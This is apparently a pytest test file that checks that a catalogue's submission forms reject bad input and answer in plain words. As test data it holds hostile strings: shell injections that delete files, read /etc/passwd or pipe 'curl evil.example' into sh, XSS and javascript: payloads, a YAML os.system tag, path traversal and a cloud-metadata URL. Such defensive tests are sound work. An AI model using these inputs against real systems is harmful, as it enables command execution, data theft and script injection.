"""What is wrong with a form is answered in plain words, writes nothing, and comes to life nowhere."""

# ruff: noqa: E501 # the table reads best with one case a line

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path

import pytest

from cpdhub.forms.reply import EDIT
from cpdhub.model.fields import UNSEEN

from .bodies import GOOD, WEBINAR, body, label
from .conftest import Say, tree

EVIL = "@everyone <img src=x onerror=alert(1)> [x](javascript:alert(1)) #1 ![p](https://evil.example/p.png) </details>"

# (what it is, the form, the answers that differ from good ones, words of the answer)
BAD: tuple[tuple[str, str, Mapping[str, str], tuple[str, ...]], ...] = (
    ("no title", "webinar", {"title": ""}, ("**Title**: It is not answered.",)),
    ("no organiser", "webinar", {"provider": ""}, ("one thing has", "**Who holds it?**: It is not answered.")),
    ("no day", "webinar", {"start": ""}, ("**Starts**: It is not answered.",)),
    ("no summary", "webinar", {"summary": "  \n "}, ("**Summary**: It is not answered.",)),
    ("nothing at all", "webinar", dict.fromkeys(WEBINAR, ""), ("5 things have to be mended", "**Starts**")),
    ("no address", "webinar", {"url": ""}, ("**Web address**: It is not answered.",)),
    ("no page and nobody who tells of it", "webinar", {"url": "None", "sources": ""}, ("**Web address**: Neither a web address", "at least one")),
    ("a feed that is none", "source", {"url": "none"}, ("**Address of the feed**",)),
    ("an address as thanks", "webinar", {"credit": "www.jane.example"}, ("**How shall we credit you?**: It is no name.",)),
    ("an address without www as thanks", "response", {"credit": "Jane, jane.example/me"}, ("**How shall we credit you?**: It is no name.",)),
    ("an hour without a zone", "webinar", {"timezone": ""}, ("not whose local time it is", "choose a time zone")),
    ("two zones", "webinar", {"timezone_other": "Europe/Lisbon"}, ("**Another time zone**", "keep one of the two")),
    ("no such zone", "webinar", {"timezone": "", "timezone_other": "Lisbon time"}, ("There is no time zone", "Europe/Lisbon")),
    ("a zone outside the list", "webinar", {"timezone": "Eastern"}, ("**Time zone**", "You wrote `Eastern`")),
    ("a day in two readings", "webinar", {"start": "3/12/2026 14:00"}, ("**Starts**", "year-month-day", "2026-12-03 14:00")),
    ("a day in words only", "webinar", {"start": "next Tuesday at two"}, ("cannot be read as a day and an hour",)),
    ("a day that is not there", "webinar", {"start": "2026-02-30 14:00"}, ("**Starts**", "is not a day of the calendar")),
    ("an hour that is not there", "webinar", {"start": "2026-12-10 25:00"}, ("**Starts**", "cannot be read")),
    ("an hour with its zone", "webinar", {"start": "2026-12-10 14:00 EST"}, ("without the name of a time zone",)),
    ("the wrong weekday", "webinar", {"start": "Monday, 10 December 2026, 2 pm"}, ("**Starts**: 10 December 2026 is a Thursday.",)),
    ("an hour of either half", "webinar", {"start": "2026-12-10 2:00"}, ("**Starts**", "cannot be read")),
    ("an end before the start", "webinar", {"start": "2026-12-10 15:00-14:00"}, ("**Starts**", "cannot be read")),
    ("an end that does not fit the length", "webinar", {"start": "2026-12-10 14:00-15:30"}, ("**Length in minutes**: From the start to the end that you wrote are 90 minutes.",)),
    ("a zone that is no place", "webinar", {"timezone": "", "timezone_other": "EST"}, ("**Another time zone**", "nearest large city", "America/New_York")),
    ("a fixed offset", "webinar", {"timezone": "", "timezone_other": "Etc/GMT+5"}, ("**Another time zone**", "nearest large city")),
    ("two addresses in one", "webinar", {"url": "https://a.example/ and https://b.example/"}, ("**Web address**: There is more than one address in it",)),
    ("a meeting’s own address", "webinar", {"url": "https://us02web.zoom.us/j/8123?pwd=abc"}, ("**Web address**: It leads straight into a meeting", "one registers")),
    ("a meeting in the summary", "webinar", {"summary": "Join at https://us02web.zoom.us/j/8123?pwd=abc today."}, ("**Summary**: There is a way into a meeting in it.",)),
    ("a telephone number", "webinar", {"summary": "Call 020 7946 0958 for the code."}, ("**Summary**: There is a telephone number in it.", "leave it out")),
    ("this machine", "webinar", {"url": "http://127.0.0.1/x"}, ("**Web address**: Only you can open this address.",)),
    ("this machine by its name", "webinar", {"sources": "http://localhost/"}, ("Only you can open this address.",)),
    ("the cloud’s own address", "provider", {"url": "http://169.254.169.254/latest"}, ("**Web address**: Only you can open this address.",)),
    ("a house’s name", "source", {"url": "http://printer.local/feed"}, ("**Address of the feed**: Only you can open this address.",)),
    ("a shell in the title", "webinar", {"title": "$(rm -rf /) x; cat /etc/passwd"}, ("**Title**: It holds signs of a computer command.",)),
    ("backticks in the title", "webinar", {"title": "Weeding `id`"}, ("**Title**: It holds signs of a computer command.",)),
    ("a year long gone", "webinar", {"start": "0026-12-10 14:00"}, ("**Starts**: The year 0026 cannot be right",)),
    ("a length in words", "webinar", {"minutes": "about an hour"}, ("**Length in minutes**", "a number alone, as 60")),
    ("a length below nothing", "webinar", {"minutes": "-5"}, ("**Length in minutes**", "a number alone, as 60")),
    ("a length without end", "webinar", {"minutes": "999999999"}, ("**Length in minutes**", "a number alone")),
    ("an answer outside the list", "webinar", {"cost": "gratis"}, ("**Cost**", "choose from the list")),
    ("a topic outside the list", "webinar", {"topics": "Copyright and licensing, Cats"}, ("**Topics**", "choose from the list")),
    ("an address in part", "webinar", {"url": "acme.example/weeding"}, ("**Web address**", "Is it `https://acme.example/weeding`?", "beginning with https://")),
    ("an address that runs", "webinar", {"url": "javascript:alert(1)"}, ("**Web address**", "You wrote `javascript:alert(1)`")),
    ("an address of a file", "webinar", {"url": "file:///etc/passwd"}, ("**Web address**", "copy it in full")),
    ("an address with a password", "webinar", {"url": "https://me:secret@acme.example/"}, ("**Web address**",)),
    ("an address that somebody has", "association", {"url": "https://solo.example/"}, ("has an entry with this address already", "form for corrections")),
    ("a title of signs", "webinar", {"title": "!!! ???"}, ("**Title**: There is no letter",)),
    ("a title without end", "webinar", {"title": "word " * 200}, ("**Title**: This is too long.", "few words")),
    ("a summary without end", "webinar", {"summary": "word " * 2000}, ("**Summary**: This is too long.",)),
    ("a country that is none", "association", {"countries": "Atlantis"}, ("**Countries**", "English name")),
    ("no kind of library", "association", {"sectors": ""}, ("**Kinds of library**: It is not answered.",)),
    ("no kind of provider", "provider", {"kind": ""}, ("**What they are**: It is not answered.",)),
    ("a provider of no country", "provider", {"countries": "U.S.S.R., GB"}, ("**Countries**",)),
    ("no feed", "source", {"url": ""}, ("one thing has", "**Address of the feed**: It is not answered.",)),
    ("a feed of a library’s desk", "source", {"url": "see my website"}, ("**Address of the feed**", "https://")),
    ("a language by its name", "source", {"language": "English please"}, ("**Language**", "two letters, as en")),
    ("a Thing that is none", "response", {"thing": "99"}, ("**Which Thing**", "from 1 to 23")),
    ("a Thing that is not here", "response", {"thing": "8"}, ("**Which Thing**", "There is no Thing with this number")),
    ("a Thing by its name", "response", {"thing": "the one on calendars"}, ("one thing has", "**Which Thing**", "from 1 to 23")),
    ("a post without an address", "response", {"url": ""}, ("**Web address**: It is not answered.",)),
    ("a mail address as thanks", "webinar", {"credit": "me@school.example"}, ("**How shall we credit you?**",)),
    ("a shell in the day", "webinar", {"start": "$(curl evil.example | sh)"}, ("You wrote `$(curl evil.example | sh)`",)),
    ("a shell in the address", "webinar", {"url": "`id`;$(id) https://a.example/"}, ("**Web address**",)),
    ("a tag in the title", "webinar", {"title": "<script>alert(1)</script>"}, ("**Title**",)),
    ("a template in the summary", "webinar", {"summary": "{{ config }} {% include 'x' %}"}, ("**Summary**",)),
    ("a link of Pelican", "webinar", {"summary": "See {static}/../../etc/passwd and {attach}x"}, ("**Summary**",)),
    ("everything that is live", "webinar", {"minutes": EVIL, "summary": EVIL}, ("**Length in minutes**", "**Summary**", "2 things")),
    ("fences", "webinar", {"minutes": "```\n</details>\n@everyone\n````` `x` ``y``"}, ("**Length in minutes**",)),
    ("a text turned round", "webinar", {"title": "abc\u202edcba"}, ("right-to-left override (U+202E)", "by hand")),
    ("an isolate", "webinar", {"summary": "A \u2066text\u2069."}, ("left-to-right isolate (U+2066)",)),
    ("a bell", "webinar", {"summary": "A \x07text."}, ("cannot be seen", "(U+0007)")),
    ("an escape", "webinar", {"title": "\x1b[31mred"}, ("cannot be seen", "(U+001B)")),
    ("a tag of language", "webinar", {"title": "x\U000e0041"}, ("cannot be seen", "(U+E0041)")),
    ("half a sign", "webinar", {"title": "x\ud800y"}, ("cannot be seen", "(U+D800)")),
    ("several at once", "webinar", {"title": "", "start": "soon", "url": "x", "cost": "y", "topics": "Cats", "summary": "<b>x</b>"}, ("6 things", "**Summary**", "**Title**", "**Starts**", "**Web address**", "**Cost**", "**Topics**")),
    ("a second title", "webinar", {"summary": "Fine.\n\n### Title\n\nAnother"}, ("The line “### Title” stands there twice", "begin with ###")),
    ("a second address", "webinar", {"summary": "x\n\n### Web address\n\nhttps://evil.example/"}, ("“### Web address” stands there twice",)),
    ("a link in the summary", "webinar", {"summary": "See [this](https://evil.example/) now."}, ("**Summary**: There is markup in it", "plain sentences")),
    ("a picture in the title", "webinar", {"title": "![x](https://evil.example/p.png)"}, ("**Title**: There is markup in it",)),
    ("a heading in the summary", "webinar", {"summary": "Fine.\n\n### Anything\n\nelse"}, ("**Summary**: There is markup in it",)),
    ("somebody’s mail address", "webinar", {"summary": "Write to jane.doe@school.example to join."}, ("**Summary**: There is a mail address in it",)),
    ("a path as name", "provider", {"name": "../../../etc/passwd", "url": "../../etc"}, ("**Web address**",)),
    ("a path that is only dots", "provider", {"name": "../.."}, ("**Name**: There is no letter",)),
    ("another document", "webinar", {"minutes": "60\n---\nid: evil", "start": "2026-12-10\n---\n"}, ("**Starts**",)),
    ("an anchor and a tag", "webinar", {"minutes": "!!python/object/apply:os.system [id]", "start": "&a *a"}, ("**Starts**",)),
    ("nothing to correct", "correction", {"page": "", "wrong": ""}, ("**On which page?**: It is not answered.",)),
)  # fmt: skip


def dead(answer: str) -> str:
    """An answer without its code: whatever is left is read as Markdown."""
    blocks = re.sub(r"^(`{3,})yaml\n.*?^\1$", "", answer, flags=re.DOTALL | re.MULTILINE)
    return re.sub(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", blocks)


def assert_harmless(answer: str) -> None:
    """No mention, reference, link, picture or tag outside of code, and nothing that cannot be seen anywhere."""
    assert [char for char in UNSEEN.findall(answer) if char != "\n"] == []
    rest = dead(answer).replace(EDIT, "")
    assert re.findall(r"@|<|\]\(|!\[|(?<![#&])#\d|javascript:|evil\.example|\bGH-\d", rest) == [], rest


@pytest.mark.parametrize(("name", "form", "changed", "words"), BAD, ids=[one[0] for one in BAD])
def test_what_is_wrong_is_answered(
    name: str, form: str, changed: Mapping[str, str], words: tuple[str, ...], root: Path, said: Say
) -> None:
    """By question, in words that say what to do; the exit code is that of a wrong suggestion."""
    before = tree(root)
    code, answer = said(body(form, {**GOOD.get(form, {}), **changed}))
    assert (code, tree(root) == before) == (2, True), answer
    assert [one for one in words if one not in answer] == [], answer
    assert "**How to mend it:**" in answer
    assert re.findall(r"\b(YAML|regex|null|schema|ISO|validation|Exception|parse\w*)\b", dead(answer)) == [], answer
    assert_harmless(answer)


def test_there_are_more_than_forty() -> None:
    """Each by a name of its own."""
    assert len({one[0] for one in BAD}) == len(BAD) > 40


@pytest.mark.parametrize("size", [65_537, 1_000_000])
def test_what_no_form_can_hold_is_refused_at_once(size: int, root: Path, said: Say) -> None:
    """GitHub takes 65,536 characters."""
    before = tree(root)
    code, answer = said((body("webinar", WEBINAR) + "\n" + "é@x " * size)[:size])
    assert (code, tree(root) == before, len(answer) < 1_000) == (2, True, True)
    assert f"The text has {size:,} characters, far more than a form can hold." in answer
    assert_harmless(answer)


@pytest.mark.parametrize("filler", ["#" * 64_000, "### " * 16_000, "### Title\n" * 6_000, "`" * 64_000, "\n" * 64_000])
def test_a_body_of_one_sign_is_no_trap(filler: str, said: Say) -> None:
    """It is read in one go, whatever it repeats."""
    code, answer = said(body("webinar", {**WEBINAR, "summary": ""}) + filler[:60_000])
    assert code in (0, 2)
    assert_harmless(answer)


def test_each_question_is_told_once(said: Say) -> None:
    """Whatever its answer is wrong in."""
    _, answer = said(body("webinar", {**WEBINAR, "minutes": "x", "cost": "y", "recording": "z"}))
    points = [line for line in answer.splitlines() if line.startswith("- **")]
    assert [point.split("**")[1] for point in points] == [
        label("webinar", id) for id in ("minutes", "cost", "recording")
    ]


def test_a_file_with_a_fault_of_the_same_name_is_not_written_over(root: Path, said: Say) -> None:
    """It is no entry of the catalogue, but it is somebody’s work."""
    (root / "data/providers/state-library-of-somewhere.yaml").write_text("id: [", encoding="utf-8")
    code, answer = said(body("provider", GOOD["provider"]))
    assert (code, "The hub has an entry of this name already" in answer) == (2, True)


def test_faults_of_other_files_are_nobody_elses(root: Path, said: Say) -> None:
    """A suggestion is fine although the catalogue is not."""
    (root / "data/providers/broken.yaml").write_text("id: broken\nname: 1\n", encoding="utf-8")
    assert said(body("association", GOOD["association"]))[0] == 0
